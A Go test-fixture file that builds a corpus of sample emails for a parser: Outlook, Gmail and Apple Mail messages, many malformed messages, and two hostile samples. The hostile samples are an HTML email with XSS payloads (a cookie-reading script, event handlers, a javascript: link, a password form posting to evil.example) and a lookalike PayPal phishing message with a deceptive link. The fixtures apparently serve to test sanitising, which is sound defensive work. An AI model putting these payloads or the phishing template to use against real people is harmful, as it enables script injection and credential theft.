package email

import (
	"strings"
)

const outlookCID = "image001.png@01DA1234.56789ABC"

func corpusClients(f map[string][]byte) {
	f["outlook-related.eml"] = crlf(hdr("\"Karim, Nadia\" <nadia.karim@ngo.example>", "Phishing attempt on our staff", "DB7PR01MB1234@DB7PR01MB1234.eurprd01.prod.outlook.com") +
		"Thread-Topic: Phishing attempt on our staff\nThread-Index: AdpB2x3k4l5m6n7o8p9q0r1s2t3u4v==\n" +
		"X-MS-Has-Attach: yes\nX-MS-TNEF-Correlator: <DB7PR01MB1234@DB7PR01MB1234.eurprd01.prod.outlook.com>\n" +
		"Accept-Language: en-US\nContent-Language: en-US\n" +
		"Content-Type: multipart/related;\n\tboundary=\"_004_DB7PR01MB1234_\";\n\ttype=\"multipart/alternative\"\n\n" +
		"--_004_DB7PR01MB1234_\nContent-Type: multipart/alternative;\n\tboundary=\"_000_DB7PR01MB1234_\"\n\n" +
		"--_000_DB7PR01MB1234_\nContent-Type: text/plain; charset=\"us-ascii\"\nContent-Transfer-Encoding: quoted-printable\n\n" +
		qp([]byte("Hi team,\nSeveral of our staff received a fake password reset mail this morning. Screenshot below.\n[cid:"+outlookCID+"]\nNadia\n")) +
		"--_000_DB7PR01MB1234_\nContent-Type: text/html; charset=\"us-ascii\"\nContent-Transfer-Encoding: quoted-printable\n\n" +
		qp([]byte(`<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style></head>`+
			`<body lang="EN-US"><div class="WordSection1"><p class="MsoNormal">Hi team,</p><p class="MsoNormal">Several of our staff received a fake password reset mail this morning. Screenshot below.</p>`+
			`<p class="MsoNormal"><img width="1" height="1" src="cid:`+outlookCID+`" alt="screenshot"></p><p class="MsoNormal">Nadia</p></div></body></html>`)) +
		"--_000_DB7PR01MB1234_--\n\n" +
		"--_004_DB7PR01MB1234_\nContent-Type: image/png; name=\"image001.png\"\nContent-Description: image001.png\n" +
		"Content-Disposition: inline; filename=\"image001.png\"; size=67\nContent-ID: <" + outlookCID + ">\n" +
		"Content-Transfer-Encoding: base64\n\n" + b64(tinyPNG) + "\n--_004_DB7PR01MB1234_--\n")

	f["gmail-alternative.eml"] = crlf("MIME-Version: 1.0\nReferences: <alert-1@accounts.example>\nIn-Reply-To: <alert-1@accounts.example>\n" +
		"From: Lucía Gómez <lucia.gomez@gmail.example>\nDate: Thu, 8 Jan 2026 11:22:33 -0600\n" +
		"Message-ID: <CAFxyz123=abc@mail.gmail.example>\nSubject: Re: Suspicious login alert\nTo: help@helpline.example\n" +
		"Content-Type: multipart/alternative; boundary=\"000000000000a1b2c3d4e5f6\"\n\n" +
		"--000000000000a1b2c3d4e5f6\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n" +
		qp([]byte("Hola, recibí esta alerta y no fui yo. Mi cuenta está en peligro? Necesito ayuda por favor, gracias.\n\n"+
			"On Thu, Jan 8, 2026 at 9:00 AM Accounts <alert@accounts.example> wrote:\n> We detected a new sign-in to your account from an unknown device.\n> If this was not you, please secure your account now.\n> The security team\n")) +
		"--000000000000a1b2c3d4e5f6\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n" +
		qp([]byte(`<div dir="ltr">Hola, recibí esta alerta y no fui yo. Mi cuenta está en peligro? Necesito ayuda por favor, gracias.</div><br>`+
			`<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Thu, Jan 8, 2026 at 9:00 AM Accounts &lt;<a href="mailto:alert@accounts.example">alert@accounts.example</a>&gt; wrote:<br></div>`+
			`<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204)">We detected a new sign-in to your account.</blockquote></div>`)) +
		"--000000000000a1b2c3d4e5f6--\n")

	f["apple-mail-flowed.eml"] = crlf("Content-Type: multipart/alternative;\n\tboundary=\"Apple-Mail=_5A1B2C3D-1111-2222-3333-444455556666\"\n" +
		"Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))\nSubject: Ordinateur saisi\nDate: Fri, 9 Jan 2026 18:04:05 +0100\n" +
		"Message-Id: <A1B2C3D4-5678-90AB-CDEF-1234567890AB@exemple.fr>\nTo: help@helpline.example\nFrom: Julie Martin <julie@exemple.fr>\n" +
		"X-Mailer: Apple Mail (2.3774.600.62)\n\n" +
		"--Apple-Mail=_5A1B2C3D-1111-2222-3333-444455556666\nContent-Transfer-Encoding: 8bit\n" +
		"Content-Type: text/plain;\n\tcharset=utf-8;\n\tformat=flowed\n\n" +
		"Bonjour, je vous écris depuis mon iPhone car mon ordinateur a été saisi par la \npolice à la frontière. Que dois-je faire pour protéger mes \nsources ?\n\nJulie\n\n" +
		"--Apple-Mail=_5A1B2C3D-1111-2222-3333-444455556666\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/html;\n\tcharset=utf-8\n\n" +
		qp([]byte(`<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word;">`+
			`Bonjour, je vous écris depuis mon iPhone car mon ordinateur a été saisi par la police à la frontière. Que dois-je faire pour protéger mes sources ?<div><br></div><div>Julie</div></body></html>`)) +
		"--Apple-Mail=_5A1B2C3D-1111-2222-3333-444455556666--\n")
}

func corpusBroken(f map[string][]byte) {
	f["broken-no-closing-boundary.eml"] = crlf(hdr("a@example.org", "truncated", "broken-1@example.org") +
		"Content-Type: multipart/mixed; boundary=\"cut\"\n\n--cut\nContent-Type: text/plain\n\nThe message was cut before its closing boundary.\n" +
		"--cut\nContent-Type: text/plain; name=\"notes.txt\"\nContent-Disposition: attachment; filename=\"notes.txt\"\n\nsome notes\n")

	f["broken-wrong-boundary.eml"] = crlf(hdr("a@example.org", "wrong boundary", "broken-2@example.org") +
		"Content-Type: multipart/mixed; boundary=\"declared-but-wrong\"\n\nThis is a multi-part message in MIME format.\n" +
		"------=_Part_123_456\nContent-Type: text/plain; charset=utf-8\n\nThe boundary in the header does not match the body.\n" +
		"------=_Part_123_456\nContent-Type: text/plain; name=\"log.txt\"\nContent-Disposition: attachment; filename=\"log.txt\"\n\nlog line\n" +
		"------=_Part_123_456--\n")

	f["broken-header-no-colon.eml"] = crlf("From: Rania <rania@example.org>\nX-Broken header without any colon\nTo: help@helpline.example\n" +
		"Subject: header without colon\nMessage-ID: <broken-3@example.org>\n\nThe second header line is malformed but the rest must survive.\n")

	full := b64([]byte(textEN + " " + textEN))
	f["broken-truncated-base64.eml"] = crlf(hdr("a@example.org", "truncated base64", "broken-4@example.org") +
		"Content-Type: multipart/mixed; boundary=\"t\"\n\n--t\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" +
		full[:len(full)/2-3] + "\n--t\nContent-Type: application/octet-stream; name=\"data.bin\"\nContent-Transfer-Encoding: base64\n\n" +
		"AAECAwQF!!!BgcICQoL*\nDA0\n--t--\n")

	f["broken-unknown-charset.eml"] = crlf(hdr("a@example.org", wordQ("x-unknown-42", []byte("r\xc3\xa9sum\xc3\xa9")), "broken-5@example.org") +
		"Content-Type: text/plain; charset=\"x-unknown-42\"\nContent-Transfer-Encoding: 8bit\n\n" + textFR + "\n")

	f["broken-unknown-encoding.eml"] = crlf(hdr("a@example.org", "unknown encoding", "broken-6@example.org") +
		"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: x-super-encoding\n\nThis body uses an encoding nobody knows, it is shown as is.\n")

	f["broken-nul-bytes.eml"] = crlf(hdr("a@example.org", "nul\x00bytes", "broken-7@example.org") +
		"Content-Type: text/plain; charset=utf-8\n\nPlease\x00 help\x00 me, my laptop was stolen.\x00\n")

	f["broken-no-blank-line.eml"] = crlf("From: Yusuf <yusuf@example.org>\nTo: help@helpline.example\nSubject: no blank line\n" +
		"Message-ID: <broken-8@example.org>\nHello, this message has no blank line after its headers.\nSecond line of the body.\n")

	f["empty.eml"] = []byte{}

	garbage := make([]byte, 2048)
	x := uint32(2463534242)
	for i := range garbage {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		garbage[i] = byte(x)
	}
	f["garbage-binary.eml"] = garbage

	f["deep-nesting.eml"] = crlf(hdr("a@example.org", "deep", "deep-1@example.org") + deepMultipart(0, 25))
}

// deepMultipart nests multipart/mixed levels, each with a short text part.
func deepMultipart(level, max int) string {
	if level == max {
		return "Content-Type: text/plain\n\ninnermost text\n"
	}
	b := "lvl" + strings.Repeat("x", level)
	return "Content-Type: multipart/mixed; boundary=\"" + b + "\"\n\n--" + b + "\n" +
		"Content-Type: text/plain\n\nlevel text " + strings.Repeat("I", level%3+1) + "\n--" + b + "\n" +
		deepMultipart(level+1, max) + "--" + b + "--\n"
}

const xssHTML = `<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>
<script>alert(document.cookie)</script></head><body>
<p>Visible paragraph about the attack.</p>
<img src="x" onerror="alert(1)" alt="broken">
<img src="https://tracker.example/p.gif" width="1" height="1">
<a href="javascript:alert(2)">click me</a>
<a href="https://example.org/guide" onclick="steal()">safety guide</a>
<form action="https://evil.example/collect"><input name="password" type="password"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(3)</script><circle r="4"/></svg>
<div style="position:fixed;top:0">Styled text</div>
<object data="https://evil.example/x.swf"></object>
</body></html>`

func corpusHTML(f map[string][]byte) {
	f["html-xss.eml"] = crlf(hdr("attacker@evil.example", "Document partagé", "xss-1@evil.example") +
		"Content-Type: text/html; charset=utf-8\n\n" + xssHTML + "\n")

	f["html-deceptive-link.eml"] = crlf(hdr("\"PayPal\" <service@paypa1.example>", "Your account is limited", "phish-1@paypa1.example") +
		"Content-Type: multipart/alternative; boundary=\"alt\"\n\n--alt\nContent-Type: text/html; charset=utf-8\n\n" +
		`<p>Please confirm your identity at <a href="https://evil.example/login">paypal.com</a>.</p>` +
		`<p>Help: <a href="https://www.example.org/">https://www.example.org/</a></p>` +
		"\n--alt--\n")
}
